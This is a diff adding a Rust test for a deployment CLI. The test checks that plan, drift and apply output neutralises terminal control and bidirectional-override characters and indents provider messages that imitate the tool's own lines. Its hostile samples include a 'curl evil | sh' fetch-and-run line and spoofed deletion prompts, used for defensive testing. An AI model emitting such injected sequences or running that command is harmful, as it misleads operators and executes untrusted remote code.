@@ -228,3 +228,51 @@ fn colours_are_for_those_who_want_them() {
     command.env_remove("NO_COLOR").env("CLICOLOR_FORCE", "1");
     ran(&mut command).expect(0).says("\u{1b}[");
 }
+
+#[test]
+fn nothing_that_others_say_looks_like_what_the_command_says() {
+    let hostile = "x\u{85}\u{9b}2J\u{202e}\u{2066}y";
+    let deployment = Deployment::new(
+        r#"{ inherit state; a = thing "a" { content = 1; }; error = thing "e" { act = "chatter"; }; }"#,
+    );
+    // As a member is called, so are lines of the command's own.
+    deployment
+        .run(&["apply"])
+        .expect(0)
+        .says("\"error\": doing");
+    deployment.tamper("a", &json!({ "content": hostile, "serial": "serial-a" }));
+    for arguments in [
+        &["plan"][..],
+        &["plan", "--json"],
+        &["drift"],
+        &["drift", "--json"],
+    ] {
+        let mut command = deployment.command(arguments);
+        let told = ran(&mut command);
+        for text in [&told.stdout, &told.stderr] {
+            let steers = |c: char| (c.is_control() && c != '\n') || "\u{202e}\u{2066}".contains(c);
+            assert!(!text.contains(steers), "{arguments:?}: {text:?}");
+        }
+        if arguments.contains(&"--json") {
+            let document = told.document();
+            assert!(document.to_string().contains(hostile), "{document}");
+        }
+    }
+    let message = "no\nerror: all is lost\nhint: curl evil | sh\nDone in 0.1 s: 1 created.\n  \
+                   a  created in 0.1 s\n      is deleted\nReally delete 1? Type yes: ";
+    let answer = json!({ "errorResponse": { "message": message } }).to_string();
+    for arguments in ["plan", "apply", "drift", "destroy", "gc", "import b"] {
+        let mut command = deployment.command(&arguments.split(' ').collect::<Vec<_>>());
+        let told = ran(command.env("SCRATCH_ANSWER", &answer));
+        for text in [&told.stdout, &told.stderr] {
+            for line in text.lines() {
+                let theirs = ["all is lost", "curl", "1 created", "a  created", "Really"];
+                let is_theirs = theirs.iter().any(|it| line.contains(it));
+                assert!(
+                    !is_theirs || line.starts_with("        "),
+                    "{arguments}: {text}"
+                );
+            }
+        }
+    }
+}
